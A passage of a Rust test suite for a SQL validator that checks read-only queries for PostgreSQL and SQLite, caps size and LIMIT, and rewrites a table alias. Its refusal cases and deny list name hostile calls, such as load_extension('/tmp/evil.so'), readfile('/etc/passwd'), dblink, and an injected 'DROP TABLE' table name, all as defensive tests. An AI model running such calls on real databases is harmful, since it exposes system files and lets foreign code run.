        fn_cursor_to_xml: PG, "SELECT cursor_to_xml('c', 1, true, false, '')" => "(dblink and foreign execution)";
        fn_ts_stat_runs_sql_text: PG, "SELECT * FROM ts_stat('SELECT to_tsvector(note) FROM orders')" => "(dblink and foreign execution)";
        fn_http_get: PG, "SELECT http_get('http://example.com')" => "(network requests)";
        fn_create_replication_slot: PG, "SELECT pg_create_logical_replication_slot('s', 'pgoutput')" => "(replication slots and WAL/log control)";
        fn_drop_replication_slot_in_from: PG, "SELECT * FROM pg_drop_replication_slot('s')" => "(replication slots and WAL/log control)";
        fn_logical_slot_get_changes: PG, "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)" => "(replication slots and WAL/log control)";
        fn_switch_wal: PG, "SELECT pg_switch_wal()" => "(replication slots and WAL/log control)";
        fn_backup_start: PG, "SELECT pg_backup_start('x')" => "(replication slots and WAL/log control)";
        fn_emit_message: PG, "SELECT pg_logical_emit_message(true, 'p', 'x')" => "(replication slots and WAL/log control)";
        fn_rotate_logfile: PG, "SELECT pg_rotate_logfile()" => "(replication slots and WAL/log control)";
        fn_promote: PG, "SELECT pg_promote()" => "(replication slots and WAL/log control)";
        fn_wal_replay_pause: PG, "SELECT pg_wal_replay_pause()" => "(replication slots and WAL/log control)";
        fn_notify_in_window_order: PG, "SELECT row_number() OVER (ORDER BY pg_notify('c', 'x')) FROM orders" => "calls pg_notify (notify)";
        fn_notify_in_array_subquery: PG, "SELECT ARRAY(SELECT pg_notify('c', 'x'))" => "(notify)";
        fn_nextval_in_values: PG, "VALUES (nextval('orders_id_seq'))" => "calls nextval (sequences)";
        fn_setval_as_argument: PG, "SELECT coalesce(setval('s', 1), 0)" => "calls setval (sequences)";
        fn_nextval_in_limit: PG, "SELECT 1 LIMIT (SELECT nextval('s'))" => "(sequences)";
        fn_nextval_in_offset: PG, "SELECT 1 OFFSET nextval('s')" => "(sequences)";
        fn_nextval_in_join_on: PG, "SELECT * FROM orders o JOIN items i ON i.id = nextval('s')" => "(sequences)";
        fn_nextval_in_exists: PG, "SELECT 1 WHERE EXISTS (SELECT 1 FROM orders WHERE nextval('s') > 0)" => "(sequences)";
        fn_nextval_in_union_branch: PG, "SELECT 1 UNION SELECT nextval('s')" => "(sequences)";
        fn_nextval_in_function_argument: PG, "SELECT lower(nextval('s')::text)" => "(sequences)";
        fn_stat_reset: PG, "SELECT pg_stat_reset()" => "calls pg_stat_reset (statistics reset)";
        fn_stat_statements_reset: PG, "SELECT pg_stat_statements_reset()" => "(statistics reset)";
        fn_brin_summarize: PG, "SELECT brin_summarize_new_values('i')" => "(catalog and index maintenance)";
        fn_sqlite_load_extension: LITE, "SELECT load_extension('/tmp/evil.so')" => "calls load_extension (SQLite files and extensions)";
        fn_sqlite_readfile: LITE, "SELECT readfile('/etc/passwd')" => "(SQLite files and extensions)";
        fn_sqlite_writefile_in_where: LITE, "SELECT 1 FROM orders WHERE writefile('/tmp/x', 'y') > 0" => "(SQLite files and extensions)";
        fn_sqlite_edit: LITE, "SELECT edit('x', 'vi')" => "(SQLite files and extensions)";
        fn_sqlite_fts3_tokenizer: LITE, "SELECT fts3_tokenizer('simple', x'00')" => "(SQLite files and extensions)";
        fn_sqlite_fsdir_in_from: LITE, "SELECT * FROM fsdir('/etc')" => "(SQLite files and extensions)";
        fn_sqlite_upper_case: LITE, "SELECT LOAD_EXTENSION('x')" => "(SQLite files and extensions)";
    }

    // ---- hostile: size ----

    #[test]
    fn oversize_is_refused_before_parsing() {
        let sql = format!("SELECT {}", "1".repeat(MAX_SQL_CHARS - 6));
        assert_eq!(sql.chars().count(), MAX_SQL_CHARS + 1);
        assert_eq!(
            refusal(PG, &sql),
            "SQL validation failed: the SQL is 10001 characters long; at most 10000 are allowed"
        );
        // Even garbage that would not parse is refused for its size first.
        let junk = "\u{1}".repeat(MAX_SQL_CHARS + 1);
        assert!(refusal(LITE, &junk).contains("10001 characters"));
    }

    #[test]
    fn exactly_max_chars_passes() {
        let sql = format!("SELECT 1 AS a{}", " ".repeat(MAX_SQL_CHARS - 13));
        assert_eq!(sql.chars().count(), MAX_SQL_CHARS);
        assert_eq!(executed(PG, &sql), "SELECT 1 AS a LIMIT 101");
    }

    #[test]
    fn length_counts_characters_not_bytes() {
        let body = "é".repeat(MAX_SQL_CHARS - 9);
        let sql = format!("SELECT '{body}'");
        assert_eq!(sql.chars().count(), MAX_SQL_CHARS);
        assert!(sql.len() > MAX_SQL_CHARS);
        assert!(run(PG, &sql).is_ok());
    }

    /// sqlparser's recursion limit stops nested parentheses, but a flat `1+1+…` chain is
    /// parsed in a loop into a tree thousands of levels deep, which the walk, the print and
    /// the drop then recurse through. 10,000 characters bound it at about 5,000 levels; this
    /// runs the worst cases on half the stack of a tokio worker (2 MiB) to keep a margin.
    #[test]
    fn long_flat_chains_do_not_overflow_the_stack() {
        let plus = format!("SELECT 1{}", "+1".repeat(4_995));
        let ands = format!("SELECT 1 WHERE {}1=1", "1=1 AND ".repeat(1_240));
        let casts = format!("SELECT 1{}", "::int".repeat(1_995));
        let unions = format!("SELECT 1{}", " UNION SELECT 1".repeat(660));
        let worker = std::thread::Builder::new()
            .stack_size(1024 * 1024)
            .spawn(move || {
                for sql in [plus, ands, casts, unions] {
                    assert!(sql.chars().count() <= MAX_SQL_CHARS);
                    assert!(run(PG, &sql).is_ok());
                    assert!(run(LITE, &sql).is_ok());
                }
            })
            .unwrap();
        worker.join().unwrap();
    }

    // ---- limits of the request ----

    #[test]
    fn request_limit_must_be_1_to_1000() {
        for bad in [0, MAX_LIMIT + 1] {
            assert_eq!(
                guard("SELECT 1", &PG, None, bad),
                Err(Error::Invalid(format!(
                    "limit: must be from 1 to 1000, got {bad}"
                )))
            );
        }
        assert_eq!(
            check_limit(-1),
            Err(Error::Invalid(
                "limit: must be from 1 to 1000, got -1".into()
            ))
        );
        assert!(check_limit(0).is_err());
        assert!(check_limit(1001).is_err());
        assert_eq!(check_limit(1), Ok(1));
        assert_eq!(check_limit(1000), Ok(1000));
        assert_eq!(check_limit(DEFAULT_LIMIT as i64), Ok(DEFAULT_LIMIT));
    }

    // ---- legitimate queries ----

    passes! {
        ok_seed_filter: PG, "SELECT id, email, country FROM data WHERE country = 'US'"
            => "SELECT id, email, country FROM \"public\".\"orders\" AS data WHERE country = 'US' LIMIT 101";
        ok_seed_count: PG, "SELECT COUNT(*) AS total FROM data"
            => "SELECT COUNT(*) AS total FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_seed_group_by: PG, "SELECT country, COUNT(*) AS n FROM data GROUP BY country ORDER BY n DESC"
            => "SELECT country, COUNT(*) AS n FROM \"public\".\"orders\" AS data GROUP BY country ORDER BY n DESC LIMIT 101";
        ok_seed_registered_name_with_limit: PG, "SELECT * FROM orders WHERE status = 'shipped' LIMIT 20"
            => "SELECT * FROM orders WHERE status = 'shipped' LIMIT 20";
        ok_joins: PG, "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN items i USING (order_id)"
            => "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN items i USING (order_id) LIMIT 101";
        ok_window_function: PG, "SELECT id, row_number() OVER (PARTITION BY country ORDER BY id) AS rn, sum(total) OVER w FROM data WINDOW w AS (ORDER BY id)"
            => "SELECT id, row_number() OVER (PARTITION BY country ORDER BY id) AS rn, sum(total) OVER w FROM \"public\".\"orders\" AS data WINDOW w AS (ORDER BY id) LIMIT 101";
        ok_cte: PG, "WITH us AS (SELECT * FROM data WHERE country = 'US') SELECT count(*) FROM us"
            => "WITH us AS (SELECT * FROM \"public\".\"orders\" AS data WHERE country = 'US') SELECT count(*) FROM us LIMIT 101";
        ok_recursive_cte: PG, "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r"
            => "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r LIMIT 101";
        ok_values: PG, "VALUES (1, 'a'), (2, 'b')" => "VALUES (1, 'a'), (2, 'b') LIMIT 101";
        ok_union_all: PG, "SELECT id FROM data UNION ALL SELECT id FROM archive"
            => "SELECT id FROM \"public\".\"orders\" AS data UNION ALL SELECT id FROM archive LIMIT 101";
        ok_intersect_except: PG, "SELECT id FROM a INTERSECT SELECT id FROM b EXCEPT SELECT id FROM c"
            => "SELECT id FROM a INTERSECT SELECT id FROM b EXCEPT SELECT id FROM c LIMIT 101";
        ok_casts: PG, "SELECT '1'::int, created_at::date, CAST(total AS numeric(10, 2)) FROM data"
            => "SELECT '1'::int, created_at::date, CAST(total AS numeric(10, 2)) FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_json_operators: PG, "SELECT payload->>'name', payload->'a'->'b', payload #>> '{a,b}' FROM data WHERE payload @> '{}'::jsonb"
            => "SELECT payload->>'name', payload->'a'->'b', payload #>> '{a,b}' FROM \"public\".\"orders\" AS data WHERE payload @> '{}'::jsonb LIMIT 101";
        ok_arrays: PG, "SELECT ARRAY[1,2,3], tags[1], 'a' = ANY(tags) FROM data"
            => "SELECT ARRAY[1,2,3], tags[1], 'a' = ANY(tags) FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_ilike_and_regex: PG, "SELECT * FROM data WHERE email ILIKE '%@example.com' AND name ~* '^a'"
            => "SELECT * FROM \"public\".\"orders\" AS data WHERE email ILIKE '%@example.com' AND name ~* '^a' LIMIT 101";
        ok_generate_series_in_from: PG, "SELECT g FROM generate_series(1, 10) AS g"
            => "SELECT g FROM generate_series(1, 10) AS g LIMIT 101";
        ok_generate_series_with_ordinality: PG, "SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g(n, i)"
            => "SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g(n, i) LIMIT 101";
        ok_lateral_subquery: PG, "SELECT * FROM data d, LATERAL (SELECT count(*) FROM items i WHERE i.order_id = d.id) c"
            => "SELECT * FROM \"public\".\"orders\" d, LATERAL (SELECT count(*) FROM items i WHERE i.order_id = d.id) c LIMIT 101";
        ok_dollar_quoted_strings: PG, "SELECT $$delete from orders$$, $tag$DROP TABLE x$tag$"
            => "SELECT $$delete from orders$$, $tag$DROP TABLE x$tag$ LIMIT 101";
        ok_keyword_named_identifiers: PG, "SELECT \"delete\", \"drop\" FROM \"update\""
            => "SELECT \"delete\", \"drop\" FROM \"update\" LIMIT 101";
        ok_comments_with_delete: PG, "SELECT id -- delete from orders\nFROM data /* drop table orders; */"
            => "SELECT id -- delete from orders\nFROM \"public\".\"orders\" AS data LIMIT 101";
        ok_string_that_looks_like_injection: PG, "SELECT * FROM data WHERE note = '; DROP TABLE x'"
            => "SELECT * FROM \"public\".\"orders\" AS data WHERE note = '; DROP TABLE x' LIMIT 101";
        ok_column_named_like_denied_function: PG, "SELECT nextval_count, setval, lo_total FROM data"
            => "SELECT nextval_count, setval, lo_total FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_distinct_on: PG, "SELECT DISTINCT ON (country) country, id FROM data ORDER BY country, id"
            => "SELECT DISTINCT ON (country) country, id FROM \"public\".\"orders\" AS data ORDER BY country, id LIMIT 101";
        ok_dates_and_intervals: PG, "SELECT date_trunc('day', created_at), extract(year FROM created_at) FROM data WHERE created_at > now() - interval '1 day'"
            => "SELECT date_trunc('day', created_at), extract(year FROM created_at) FROM \"public\".\"orders\" AS data WHERE created_at > now() - interval '1 day' LIMIT 101";
        ok_case_coalesce_nullif: PG, "SELECT CASE WHEN total > 1 THEN 'big' ELSE 'small' END, COALESCE(a, 0), NULLIF(b, '') FROM data"
            => "SELECT CASE WHEN total > 1 THEN 'big' ELSE 'small' END, COALESCE(a, 0), NULLIF(b, '') FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_aggregate_filter_and_order: PG, "SELECT count(*) FILTER (WHERE total > 0), string_agg(email, ', ' ORDER BY email) FROM data"
            => "SELECT count(*) FILTER (WHERE total > 0), string_agg(email, ', ' ORDER BY email) FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_subqueries: PG, "SELECT * FROM data WHERE id IN (SELECT order_id FROM items) AND EXISTS (SELECT 1 FROM customers)"
            => "SELECT * FROM \"public\".\"orders\" AS data WHERE id IN (SELECT order_id FROM items) AND EXISTS (SELECT 1 FROM customers) LIMIT 101";
        ok_pg_sleep_is_allowed: PG, "SELECT pg_sleep(0.1)" => "SELECT pg_sleep(0.1) LIMIT 101";
        ok_read_only_sequence_and_settings: PG, "SELECT currval('s'), lastval(), current_setting('TimeZone')"
            => "SELECT currval('s'), lastval(), current_setting('TimeZone') LIMIT 101";
        ok_information_schema: PG, "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'"
            => "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders' LIMIT 101";
        ok_escape_string: PG, "SELECT E'it\\'s'" => "SELECT E'it\\'s' LIMIT 101";
        ok_delete_as_bare_column_alias: PG, "SELECT 1 DELETE FROM orders" => "SELECT 1 DELETE FROM orders LIMIT 101";
        ok_table_command_with_clauses: PG, "table orders order by a limit 2" => "table orders order by a limit 2";
        ok_table_command_gets_the_limit: PG, "TABLE orders ORDER BY a" => "TABLE orders ORDER BY a LIMIT 101";
        ok_from_only: PG, "SELECT * FROM ONLY orders, ONLY data JOIN ONLY items USING (id)"
            => "SELECT * FROM ONLY orders, ONLY \"public\".\"orders\" AS data JOIN ONLY items USING (id) LIMIT 101";
        ok_explain: PG, "EXPLAIN SELECT * FROM data" => "EXPLAIN SELECT * FROM \"public\".\"orders\" AS data";
        ok_explain_analyze_options: PG, "explain (analyze, format json) select 1;" => "explain (analyze, format json) select 1";
        ok_show: PG, "SHOW search_path" => "SHOW search_path";
        ok_noise_words_sent_as_written: PG, "SELECT 5 BETWEEN SYMMETRIC 10 AND 1, U&'d!0061t' UESCAPE '!' FROM data GROUP BY ALL 1 FOR READ ONLY"
            => "SELECT 5 BETWEEN SYMMETRIC 10 AND 1, U&'d!0061t' UESCAPE '!' FROM \"public\".\"orders\" AS data GROUP BY ALL 1 FOR READ ONLY LIMIT 101";
        ok_table_command: PG, "TABLE orders;" => "TABLE orders LIMIT 101";
        ok_table_command_quoted_schema: PG, "TABLE \"Sales\".\"My Orders\"" => "TABLE \"Sales\".\"My Orders\" LIMIT 101";
        ok_sqlite_filter: LITE, "SELECT * FROM data WHERE name LIKE 'a%' AND total > 1.5"
            => "SELECT * FROM \"public\".\"orders\" AS data WHERE name LIKE 'a%' AND total > 1.5 LIMIT 101";
        ok_sqlite_json_and_dates: LITE, "SELECT json_extract(payload, '$.a'), strftime('%Y', created_at) FROM data"
            => "SELECT json_extract(payload, '$.a'), strftime('%Y', created_at) FROM \"public\".\"orders\" AS data LIMIT 101";
        ok_sqlite_pragma_function: LITE, "SELECT name FROM pragma_table_info('orders')"
            => "SELECT name FROM pragma_table_info('orders') LIMIT 101";
        ok_sqlite_bracket_identifier: LITE, "SELECT [order] FROM data"
            => "SELECT [order] FROM \"public\".\"orders\" AS data LIMIT 101";
    }

    // ---- LIMIT ----

    passes! {
        limit_added_when_missing: PG, "SELECT 1" => "SELECT 1 LIMIT 101";
        limit_kept_as_written: PG, "SELECT 1 LIMIT 5" => "SELECT 1 LIMIT 5";
        limit_larger_than_request_kept: PG, "SELECT 1 LIMIT 5000" => "SELECT 1 LIMIT 5000";
        limit_and_offset_kept: PG, "SELECT 1 LIMIT 5 OFFSET 2" => "SELECT 1 LIMIT 5 OFFSET 2";
        limit_after_offset_kept: PG, "SELECT 1 OFFSET 2 LIMIT 5" => "SELECT 1 OFFSET 2 LIMIT 5";
        limit_all_replaced: PG, "SELECT 1 LIMIT ALL" => "SELECT 1 LIMIT 101";
        limit_all_with_offset_replaced: PG, "SELECT 1 LIMIT ALL OFFSET 3" => "SELECT 1 LIMIT 101 OFFSET 3";
        limit_null_replaced: PG, "SELECT 1 LIMIT NULL" => "SELECT 1 LIMIT 101";
        limit_negative_kept_in_postgres: PG, "SELECT 1 LIMIT -1" => "SELECT 1 LIMIT -1";
        limit_negative_replaced_in_sqlite: LITE, "SELECT 1 LIMIT -1" => "SELECT 1 LIMIT 101";
        limit_offset_only: PG, "SELECT 1 OFFSET 5" => "SELECT 1 LIMIT 101 OFFSET 5";
        limit_offset_rows_only: PG, "SELECT 1 OFFSET 5 ROWS" => "SELECT 1 LIMIT 101 OFFSET 5 ROWS";
        limit_offset_only_sqlite: LITE, "SELECT 1 OFFSET 5" => "SELECT 1 LIMIT 101 OFFSET 5";
        limit_fetch_first_kept: PG, "SELECT 1 FETCH FIRST 3 ROWS ONLY" => "SELECT 1 FETCH FIRST 3 ROWS ONLY";
        limit_fetch_next_with_offset_kept: PG, "SELECT 1 OFFSET 2 ROWS FETCH NEXT 3 ROWS ONLY" => "SELECT 1 OFFSET 2 ROWS FETCH NEXT 3 ROWS ONLY";
        limit_fetch_first_row_only_kept: PG, "SELECT 1 FETCH FIRST ROW ONLY" => "SELECT 1 FETCH FIRST ROW ONLY";
        limit_union_applies_to_whole: PG, "SELECT 1 UNION SELECT 2" => "SELECT 1 UNION SELECT 2 LIMIT 101";
        limit_union_branch_limit_is_not_top_level: PG, "SELECT 1 UNION (SELECT 2 LIMIT 1)" => "SELECT 1 UNION (SELECT 2 LIMIT 1) LIMIT 101";
        limit_union_with_order_by: PG, "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1" => "SELECT a FROM t UNION SELECT b FROM u ORDER BY 1 LIMIT 101";
        limit_union_with_limit_kept: PG, "SELECT 1 UNION SELECT 2 LIMIT 1" => "SELECT 1 UNION SELECT 2 LIMIT 1";
        limit_trailing_semicolon: PG, "SELECT 1;" => "SELECT 1 LIMIT 101";
        limit_trailing_semicolons_and_space: PG, "SELECT 1 ;; \n" => "SELECT 1 LIMIT 101";
        limit_trailing_line_comment_without_newline: PG, "SELECT 1 -- note" => "SELECT 1 LIMIT 101";
        limit_trailing_comment_after_semicolon: PG, "SELECT 1; -- note" => "SELECT 1 LIMIT 101";
        limit_trailing_block_comment: LITE, "SELECT 1 /* note */" => "SELECT 1 LIMIT 101";
        limit_in_subquery_only: PG, "SELECT * FROM (SELECT 1 LIMIT 5) s" => "SELECT * FROM (SELECT 1 LIMIT 5) s LIMIT 101";
        limit_in_cte_only: PG, "WITH a AS (SELECT 1 LIMIT 5) SELECT * FROM a" => "WITH a AS (SELECT 1 LIMIT 5) SELECT * FROM a LIMIT 101";
        limit_parenthesised_query: PG, "(SELECT 1 LIMIT 5)" => "(SELECT 1 LIMIT 5) LIMIT 101";
        limit_values: LITE, "VALUES (1), (2)" => "VALUES (1), (2) LIMIT 101";
    }

    fn calls(sql: &str) -> Calls {
        match run(PG, sql) {
            Ok(g) => g.calls,
            Err(e) => panic!("{sql:?} was refused: {e}"),
        }
    }

    fn call(schema: Option<&str>, name: &str, args: Option<usize>, field: bool) -> FunctionCall {
        FunctionCall {
            schema: schema.map(String::from),
            name: name.into(),
            args,
            field_notation: field,
        }
    }

    #[test]
    fn calls_name_every_function_as_the_server_looks_it_up() {
        let c = calls(
            "SELECT Upper(x), \"MixedCase\"(1, 2), public.crosstab('q'), count(*), \
             ceil(1.5), floor(2.5), current_user FROM data, generate_series(1, 3) g, \
             LATERAL jsonb_each('{}') j",
        );
        let got: Vec<_> = c.functions.iter().cloned().collect();
        let want = [
            call(None, "MixedCase", Some(2), false),
            call(None, "ceil", Some(1), false),
            call(None, "count", Some(0), false),
            call(None, "floor", Some(1), false),
            call(None, "generate_series", Some(2), false),
            call(None, "jsonb_each", Some(1), false),
            call(None, "upper", Some(1), false),
            call(Some("public"), "crosstab", Some(1), false),
        ];
        assert_eq!(got, want);
    }

    #[test]
    fn calls_include_field_notation_operators_and_casts() {
        let c = calls(
            "SELECT t.fkill, (t).other, a ## b, a OPERATOR(myschema.+) b, -a, \
             x LIKE 'y', '1'::int, CAST(y AS public.hstore), date '2024-01-01', \
             z = ANY (ARRAY[1]) FROM t",
        );
        assert!(c.functions.contains(&call(None, "fkill", Some(1), true)));
        assert!(c.functions.contains(&call(None, "other", Some(1), true)));
        let ops: Vec<_> = c
            .operators
            .iter()
            .map(|o| (o.schema.as_deref(), o.symbol.as_str()))
            .collect();
        for want in [
            (None, "##"),
            (Some("myschema"), "+"),
            (None, "-"),
            (None, "~~"),
            (None, "="),
        ] {
            assert!(ops.contains(&want), "{want:?} missing from {ops:?}");
        }
        assert!(!ops.iter().any(|(_, s)| s.eq_ignore_ascii_case("and")));
        let casts: Vec<_> = c.casts.iter().map(String::as_str).collect();
        assert_eq!(casts, ["DATE", "INT", "public.hstore"]);
    }

    #[test]
    fn transaction_id_functions_are_refused() {
        for sql in [
            "SELECT txid_current()",
            "SELECT pg_current_xact_id()",
            "SELECT pg_export_snapshot()",
        ] {
            assert!(
                refusal(PG, sql).contains("transaction ids and snapshots"),
                "{sql}"
            );
        }
    }

    #[test]
    fn limit_follows_the_request() {
        let g = guard("SELECT 1", &PG, None, 1).unwrap();
        assert_eq!(g.executed_sql, "SELECT 1 LIMIT 2");
        assert_eq!(g.limit, 1);
        assert_eq!(g.calls, Calls::default());
        let g = guard("SELECT 1", &LITE, None, MAX_LIMIT).unwrap();
        assert_eq!(g.executed_sql, "SELECT 1 LIMIT 1001");
        assert_eq!(g.limit, MAX_LIMIT);
        // A LIMIT the user wrote is kept, but the request's limit still bounds reading.
        let g = guard("SELECT 1 LIMIT 5000", &PG, None, 7).unwrap();
        assert_eq!(g.executed_sql, "SELECT 1 LIMIT 5000");
        assert_eq!(g.limit, 7);
    }

    #[test]
    fn union_limit_sits_on_the_set_operation() {
        let sql = executed(PG, "SELECT 1 UNION SELECT 2");
        let Statement::Query(query) = parse_one_query(&sql, PG.dialect).unwrap().statement else {
            panic!("{sql} is not a query");
        };
        assert!(matches!(*query.body, SetExpr::SetOperation { .. }));
        assert!(query.limit_clause.is_some());
    }

    // ---- the `data` alias ----

    passes! {
        data_rewritten_with_alias: PG, "SELECT * FROM data" => "SELECT * FROM \"public\".\"orders\" AS data LIMIT 101";
        data_qualified_columns_still_resolve: PG, "SELECT data.id, data.* FROM data WHERE data.id > 1 ORDER BY data.id"
            => "SELECT data.id, data.* FROM \"public\".\"orders\" AS data WHERE data.id > 1 ORDER BY data.id LIMIT 101";
        data_user_alias_kept: PG, "SELECT d.id FROM data AS d" => "SELECT d.id FROM \"public\".\"orders\" AS d LIMIT 101";
        data_uppercase_unquoted: PG, "SELECT DATA.id FROM DATA" => "SELECT DATA.id FROM \"public\".\"orders\" AS DATA LIMIT 101";
        data_quoted: PG, "SELECT \"data\".id FROM \"data\"" => "SELECT \"data\".id FROM \"public\".\"orders\" AS \"data\" LIMIT 101";
        data_quoted_uppercase_is_another_table_in_postgres: PG, "SELECT * FROM \"DATA\"" => "SELECT * FROM \"DATA\" LIMIT 101";
        data_quoted_uppercase_is_data_in_sqlite: LITE, "SELECT * FROM \"DATA\"" => "SELECT * FROM \"public\".\"orders\" AS \"DATA\" LIMIT 101";
        data_shadowed_by_cte: PG, "WITH data AS (SELECT 1 AS id) SELECT * FROM data" => "WITH data AS (SELECT 1 AS id) SELECT * FROM data LIMIT 101";
        data_inside_its_own_cte_is_the_table: PG, "WITH data AS (SELECT * FROM data WHERE id > 1) SELECT * FROM data"
            => "WITH data AS (SELECT * FROM \"public\".\"orders\" AS data WHERE id > 1) SELECT * FROM data LIMIT 101";
        data_inside_recursive_cte_is_the_cte: PG, "WITH RECURSIVE data AS (SELECT 1 UNION SELECT 2 FROM data) SELECT * FROM data"
            => "WITH RECURSIVE data AS (SELECT 1 UNION SELECT 2 FROM data) SELECT * FROM data LIMIT 101";
        data_later_sibling_cte_does_not_shadow: PG, "WITH a AS (SELECT * FROM data), data AS (SELECT 2) SELECT * FROM a, data"
            => "WITH a AS (SELECT * FROM \"public\".\"orders\" AS data), data AS (SELECT 2) SELECT * FROM a, data LIMIT 101";
        data_sqlite_cte_sees_its_whole_with_list: LITE, "WITH a AS (SELECT * FROM data), data AS (SELECT 2) SELECT * FROM a"
            => "WITH a AS (SELECT * FROM data), data AS (SELECT 2) SELECT * FROM a LIMIT 101";
        data_outer_cte_shadows_in_subquery: PG, "WITH data AS (SELECT 1 AS id) SELECT * FROM (SELECT * FROM data) s"
            => "WITH data AS (SELECT 1 AS id) SELECT * FROM (SELECT * FROM data) s LIMIT 101";
        data_inner_cte_does_not_leak_out: PG, "SELECT * FROM data WHERE id IN (WITH data AS (SELECT 1 AS id) SELECT id FROM data)"
            => "SELECT * FROM \"public\".\"orders\" AS data WHERE id IN (WITH data AS (SELECT 1 AS id) SELECT id FROM data) LIMIT 101";
        data_cte_with_other_case_quoted_does_not_shadow: PG, "WITH \"DATA\" AS (SELECT 1) SELECT * FROM data"
            => "WITH \"DATA\" AS (SELECT 1) SELECT * FROM \"public\".\"orders\" AS data LIMIT 101";
        data_qualified_left_alone: PG, "SELECT * FROM x.data" => "SELECT * FROM x.data LIMIT 101";
        data_in_subquery: PG, "SELECT * FROM (SELECT id FROM data) s" => "SELECT * FROM (SELECT id FROM \"public\".\"orders\" AS data) s LIMIT 101";
        data_in_where_subquery: LITE, "SELECT * FROM t WHERE x IN (SELECT id FROM data)"
            => "SELECT * FROM t WHERE x IN (SELECT id FROM \"public\".\"orders\" AS data) LIMIT 101";
        data_in_join: PG, "SELECT * FROM customers c JOIN data ON data.customer_id = c.id"
            => "SELECT * FROM customers c JOIN \"public\".\"orders\" AS data ON data.customer_id = c.id LIMIT 101";
        data_self_join: PG, "SELECT a.id FROM data a JOIN data b ON a.id = b.parent_id"
            => "SELECT a.id FROM \"public\".\"orders\" a JOIN \"public\".\"orders\" b ON a.id = b.parent_id LIMIT 101";
        data_as_column_untouched: PG, "SELECT data, t.data FROM t WHERE data IS NOT NULL" => "SELECT data, t.data FROM t WHERE data IS NOT NULL LIMIT 101";
        data_as_alias_of_other_table_untouched: PG, "SELECT data.id FROM orders AS data" => "SELECT data.id FROM orders AS data LIMIT 101";
        data_table_command: PG, "TABLE data" => "TABLE \"public\".\"orders\" LIMIT 101";
    }

    #[test]
    fn data_left_alone_without_a_table() {
        let g = guard("SELECT data.id FROM data", &PG, None, DEFAULT_LIMIT).unwrap();
        assert_eq!(g.executed_sql, "SELECT data.id FROM data LIMIT 101");
    }

    #[test]
    fn data_without_schema() {
        let table = TableName {
            schema: None,
            name: "imported".into(),
        };
        let g = guard("SELECT * FROM data", &LITE, Some(&table), DEFAULT_LIMIT).unwrap();
        assert_eq!(
            g.executed_sql,
            "SELECT * FROM \"imported\" AS data LIMIT 101"
        );
    }

    #[test]
    fn data_table_name_is_quoted_safely() {
        let table = TableName {
            schema: Some("Sales Dept".into()),
            name: "x\"; DROP TABLE y; --".into(),
        };
        let g = guard("SELECT * FROM data", &PG, Some(&table), DEFAULT_LIMIT).unwrap();
        assert_eq!(
            g.executed_sql,
            "SELECT * FROM \"Sales Dept\".\"x\"\"; DROP TABLE y; --\" AS data LIMIT 101"
        );
    }

    // ---- the deny list itself ----

    #[test]
    fn deny_list_matches_names_and_prefixes() {
        assert_eq!(
            denied_family(POSTGRES_DENIED, "pg_terminate_backend"),
            Some("backend signalling")
        );
        assert_eq!(
            denied_family(POSTGRES_DENIED, "PG_ADVISORY_XACT_LOCK_SHARED"),
            Some("advisory locks")
        );
        assert_eq!(
            denied_family(POSTGRES_DENIED, "lo_unlink"),
            Some("large objects")
        );
        assert_eq!(
            denied_family(POSTGRES_DENIED, "pg_ls_tmpdir"),
            Some("server files and programs")
        );
        assert_eq!(
            denied_family(POSTGRES_DENIED, "dblink_connect_u"),
            Some("dblink and foreign execution")
        );
        assert_eq!(
            denied_family(POSTGRES_DENIED, "pg_stat_reset_shared"),
            Some("statistics reset")
        );
        for allowed in [
            "pg_sleep",
            "currval",
            "lower",
            "log",
            "nextval_count",
            "count",
            "pg_stat_get_live_tuples",
        ] {
            assert_eq!(denied_family(POSTGRES_DENIED, allowed), None, "{allowed}");
        }
    }

    #[test]
    fn deny_list_entries_are_lower_case_and_families_named() {
        for family in POSTGRES_DENIED.iter().chain(SQLITE_DENIED) {
            assert!(!family.family.is_empty());
            assert!(!family.functions.is_empty());
            for f in family.functions {
                assert_eq!(*f, f.to_ascii_lowercase(), "{f}");
                assert!(!f.trim_end_matches('*').contains('*'), "{f}");
            }
        }
    }
}
